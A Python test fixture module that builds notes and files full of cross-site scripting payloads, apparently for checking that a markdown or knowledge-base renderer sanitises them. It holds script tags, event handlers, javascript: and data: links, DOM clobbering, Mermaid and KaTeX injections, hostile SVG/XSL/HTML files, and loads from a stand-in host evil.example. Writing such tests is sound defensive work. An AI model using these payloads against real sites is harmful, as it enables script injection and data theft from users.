"""Notes that try to run something on the page that shows them: each line calls `pwned` by a way of its own."""

from __future__ import annotations

_RUN = "pwned(1)"
_URL = "https://evil.example/x"
_IMG = f'<img src=x onerror="{_RUN}">'

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_URL}.js></script>",
    f"<SCRIPT type=module>{_RUN}</SCRIPT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_URL}.js /></svg>",
    f"<math><style><!--</style>{_IMG}--></style></math>",
    f"<noscript><p title='</noscript>{_IMG}'></noscript>",
    f"<template>{_IMG}</template>",
    f"<table><td><script>{_RUN}</script></td></table>",
    f"<!--><script>{_RUN}</script>-->",
    f"<!--> {_IMG} -->",
    f"<title><a title='</title>{_IMG}'>",
    f"<textarea><a title='</textarea>{_IMG}'>",
    f"<style></style>{_IMG}<style>@import '{_URL}.css';</style>",
    f"<svg></p><style><a id='</style>{_IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    f"<x-a><![CDATA[><script>{_RUN}</script>]]></x-a>",
    f"<plaintext><script>{_RUN}</script>",
)
HANDLERS = tuple(
    text.replace("RUN", _RUN).replace("URL", _URL)
    for text in (
        *(
            "<img src=x onerror=RUN>",
            "<img src=x OnError='RUN'>",
            "<img/src=x/onerror=RUN>",
            '<img src="x"onerror="RUN">',
        ),
        *("<svg onload=RUN></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>", "<svg/onload=RUN>"),
        *(
            "<details open ontoggle=RUN><summary>x</summary></details>",
            "<b onmouseover=RUN>x</b>",
            "<a onclick=RUN>x</a>",
        ),
        *(
            "<input autofocus onfocus=RUN>",
            "<p tabindex=0 onfocus=RUN autofocus>x</p>",
            "<marquee onstart=RUN>x</marquee>",
        ),
        *(
            "<video><source onerror=RUN></video>",
            "<video poster=x onloadstart=RUN src=x></video>",
            "<audio src=x onerror=RUN>",
        ),
        *(
            "<body onload=RUN>",
            "<iframe onload=RUN></iframe>",
            "<object onerror=RUN data=x></object>",
            "<select onfocus=RUN>",
        ),
        *(
            "<p style='animation:x' onanimationstart=RUN>x</p>",
            "<div onpointerenter=RUN>x</div>",
            "<b popover ontoggle=RUN>x",
        ),
        *(
            '![x](x" onerror="RUN)',
            '![x](x "t\\" onerror=\\"RUN")',
            '[x](x "t\\" onmouseover=\\"RUN")',
            '![[x"onerror="RUN.png]]',
        ),
        *('![[x.png|x" onerror="RUN]]', "[[x|<img src=x onerror=RUN>]]", '[[x"onmouseover="RUN]]', '#x"onclick="RUN'),
        *(
            '```js title="x\\" onmouseover=\\"RUN"\nx\n```',
            '```js"onmouseover="RUN\nx\n```',
            '> [!tip" onclick="RUN] <img src=x onerror=RUN>',
        ),
        *("> [!<img src=x onerror=RUN>] x", "^[<img src=x onerror=RUN>]", "[^1]\n\n[^1]: <img src=x onerror=RUN>"),
        *("| a |\n|---|\n| <img src=x onerror=RUN> |", "- [<img src=x onerror=RUN>] x", "==<img src=x onerror=RUN>=="),
        *(
            "<kb-math onclick=RUN>x</kb-math>",
            "<kb-run onclick=RUN data-id=x>x</kb-run>",
            "<b class=kb-popover onclick=RUN>x</b>",
        ),
    )
)
SCHEMES = tuple(
    text.replace("RUN", _RUN).replace("URL", _URL)
    for text in (
        *(
            "[x](javascript:RUN)",
            "[x](<javascript:RUN>)",
            "[x](JaVaScRiPt:RUN)",
            "[x](java&#x09;script:RUN)",
            "<javascript:RUN>",
        ),
        *(
            "[x](&#106;avascript:RUN)",
            "[x](vbscript:RUN)",
            "[x](data:text/html,<script>RUN</script>)",
            "[r]\n\n[r]: javascript:RUN",
        ),
        *(
            "[[javascript:RUN]]",
            "![[javascript:RUN]]",
            "![x](javascript:RUN)",
            "![x](data:text/html,<script>RUN</script>)",
        ),
        *('<a href="javascript:RUN">x</a>', '<a href=" \x01javascript:RUN">x</a>', '<a href="java\nscript:RUN">x</a>'),
        *(
            '<a href="&#x6A;avascript&colon;RUN">x</a>',
            '<a href="javascript&Tab;:RUN">x</a>',
            '<a href="blob:RUN">x</a>',
        ),
        *(
            '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==">x</a>',
            '<a xlink:href="javascript:RUN">x</a>',
        ),
        *(
            '<svg><a href="javascript:RUN"><text>x</text></a></svg>',
            '<svg><a xlink:href="javascript:RUN"><rect /></a></svg>',
        ),
        *('<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>', '<svg><image href="URL.png"/></svg>'),
        *(
            "<svg><set attributeName=href to=javascript:RUN /></svg>",
            "<svg><foreignObject><iframe src=javascript:RUN></svg>",
        ),
        *(
            '<iframe src="javascript:RUN"></iframe>',
            '<iframe srcdoc="<script>RUN</script>"></iframe>',
            "<iframe src=URL></iframe>",
        ),
        *(
            '<object data="javascript:RUN"></object>',
            '<embed src="javascript:RUN">',
            '<form action="javascript:RUN"><button>x</form>',
        ),
        *(
            '<button formaction="javascript:RUN">x</button>',
            '<base href="URL/">',
            '<meta http-equiv=refresh content="0;url=URL">',
        ),
        *(
            '<link rel=stylesheet href="URL.css">',
            '<link rel=preload as=image href="URL.png">',
            '<link rel=prefetch href="URL">',
        ),
        *(
            '<img src="URL.png">',
            '<img srcset="URL.png 2x">',
            '<picture><source srcset="URL.png"><img src=x></picture>',
            "![x](URL.png)",
        ),
        *(
            '<video src="URL.mp4" autoplay></video>',
            '<video poster="URL.png"></video>',
            '<track src="URL.vtt">',
            '<input type=image src="URL.png">',
        ),
        *(
            '<p style="background:url(URL.png)">x</p>',
            '<p style="background:u\\72l(URL.png)">x</p>',
            '<p style="list-style:url(URL.png)">x',
        ),
        *(
            '<p background="URL.png">x</p>',
            '<td background="URL.png">x</td>',
            "<style>*{background:url(URL.png)}</style>",
            "<a ping=URL href=#>x</a>",
        ),
        *(
            '<img src="//evil.example/x.png">',
            '<img src="\\\\evil.example\\x.png">',
            '<img src="/\t/evil.example/x.png">',
        ),
    )
)
CLOBBERING = (
    *(
        f"## {name}"
        for name in ("Exports", "module", "define", "__config", "__search", "kb-backlinks-title", "Object", "katex")
    ),
    *(
        f'<i id="{name}">x</i>'
        for name in ("exports", "module", "define", "process", "Buffer", "document", "location", "__md_get")
    ),
    '<a id="__config" href="javascript:pwned(1)">{"search": "data:text/javascript,pwned(1)"}</a>',
    '<script id="__config" type="application/json">{"base": "https://evil.example", "search": "x"}</script>',
    '<div id="__config">{"base": "https://evil.example", "translations": {}}</div>',
    '<img name="body"> <img name="currentScript" src="x"> <form name="forms"><input name="attributes"></form>',
    '<a id="alert$">x</a> <a name="document$">x</a> <iframe name="self"></iframe> <embed name="cookie">',
    '<div data-md-component="search" data-md-toggle="drawer">x</div> <div class="md-overlay" style="top:0">x</div>',
    '<div class="mermaid">graph TD; a-->b</div> <pre class="mermaid"><code>graph TD</code></pre>',
    "값 $x^2$",
)
DIAGRAMS = tuple(
    f"```mermaid\n{text}\n```"
    for text in (
        'graph TD\n a-->b\n click a "javascript:pwned(1)" "x"',
        "graph TD\n a-->b\n click a call pwned(1)",
        "graph TD\n a-->b\n click a pwned",
        f'graph TD\n a["{_IMG}"]-->b["<svg onload=pwned(1)>"]',
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n a["<img src=x onerror=pwned(1)>"]',
        f"%%{{init: {{'themeCSS': '*{{background:url({_URL}.png)}}'}}}}%%\ngraph TD\n a-->b",
        f"---\nconfig:\n  securityLevel: loose\n  fontFamily: 'x;background:url({_URL})'\n---\ngraph TD\n a-->b",
        "sequenceDiagram\n participant a\n link a: x @ javascript:pwned(1)\n a->>b: <img src=x onerror=pwned(1)>",
        'classDiagram\n class a\n click a href "javascript:pwned(1)"\n a : <img src=x onerror=pwned(1)>',
        f'graph TD\n a@{{ img: "{_URL}.png" }}',
        'stateDiagram-v2\n a : <iframe srcdoc="<script>pwned(1)</script>">',
        "</code></pre><script>pwned(1)</script>",
        f'graph TD\n a["<img src={_URL}.png>"]',
        f"graph TD\n a-->b\n style a fill:#fff,background:url({_URL}.png)",
        f"graph TD\n a:::x\n classDef x background-image:u\\72l({_URL}.png)",
        "graph TD\n a-->b",
    )
)
FORMULAS = tuple(
    f"$${text}$$"
    for text in (
        r"\href{javascript:pwned(1)}{x}",
        rf"\includegraphics{{{_URL}.png}}",
        r"\htmlData{x=1}{x} \htmlClass{md-overlay}{x} \htmlStyle{position:fixed}{x} \htmlId{__config}{x}",
        r"\url{javascript:pwned(1)}",
        r"\text{<img src=x onerror=pwned(1)>}",
        r"\def\x{\x\x}\x",
        r"\rule{1000em}{1000em}",
        r"</kb-math><script>pwned(1)</script>",
    )
)
NAMES = (
    f"---\ntitle: '{_IMG} xss'\ntags: ['<img/src=x/onerror=pwned(1)>']\naliases: ['{_IMG}']\nsummary: '{_IMG}'\n---\n"
    f"## {_IMG} xss\n\n글 xss <b>x</b> {_IMG}"
)
NOTES = {
    "scripts": "\n\n".join(SCRIPTS),
    "handlers": "\n\n".join(HANDLERS),
    "schemes": "\n\n".join(SCHEMES),
    "clobbering": "\n\n".join(CLOBBERING),
    "diagrams": "\n\n".join(DIAGRAMS),
    "formulas": "\n\n".join(FORMULAS),
    "names": NAMES,
    "glossary/xss": f"---\nsummary: '{_IMG} \"onmouseover=\"pwned(1)'\n---\n{_IMG}",
    "plain": "[[names]] [[scripts]] [[handlers]] [[schemes]] [[clobbering]] [[formulas]] xss ![[handlers]]",
}
"""By the names of their pages."""

_NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_SHAPES = (
    *(
        "<script>RUN</script>",
        "<script href='URL.js'/>",
        "<g onload='RUN'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='RUN'/></foreignObject>",
    ),
    *(
        "<a href='javascript:RUN'><rect width='99' height='99'/></a>",
        "<image href='x' onerror='RUN'/>",
        "<image href='URL.png'/>",
    ),
    *(
        "<animate attributeName='href' onbegin='RUN' dur='1s'/>",
        "<style>@import 'URL.css'; rect{fill:url(URL.svg#a)}</style>",
    ),
    *(
        "<use href='URL.svg#a'/>",
        "<set attributeName='onmouseover' to='RUN'/>",
        "<rect style='fill:url(URL.svg#b)' width='9' height='9'/>",
    ),
)
_PAGE = f"<html><body onload='{_RUN}'><script>{_RUN}</script>{_IMG}</body></html>"
_SHEET = (
    "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
    f"<xsl:template match='/'><script>{_RUN}</script></xsl:template></xsl:stylesheet>"
)
FILES: dict[str, str] = {
    **{
        f"drawing-{number}.svg": f"<svg {_NAMES}>{shape}</svg>".replace("RUN", _RUN).replace("URL", _URL)
        for number, shape in enumerate(_SHAPES)
    },
    "entity.svg": f"<!DOCTYPE svg [<!ENTITY a '<script>{_RUN}</script>'>]><svg {_NAMES}>&a;</svg>",
    "sheet.svg": f"<?xml-stylesheet href='sheet.xsl' type='text/xsl'?><svg {_NAMES}/>",
    "upper.SVG": f"<svg {_NAMES} onload='{_RUN}'/>",
    "sheet.xsl": _SHEET,
    "data.xml": f"<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{_RUN}</h:script></x>",
    **{f"page{ending}": _PAGE for ending in (".html", ".htm", ".xhtml", ".XHT", ".shtml", ".mht", "")},
}
"""Files that a browser opens directly, each linked to and embedded."""
NOTES["files"] = "\n\n".join(f"[[{name}]] ![[{name}]] ![](<{name}>)" for name in FILES)
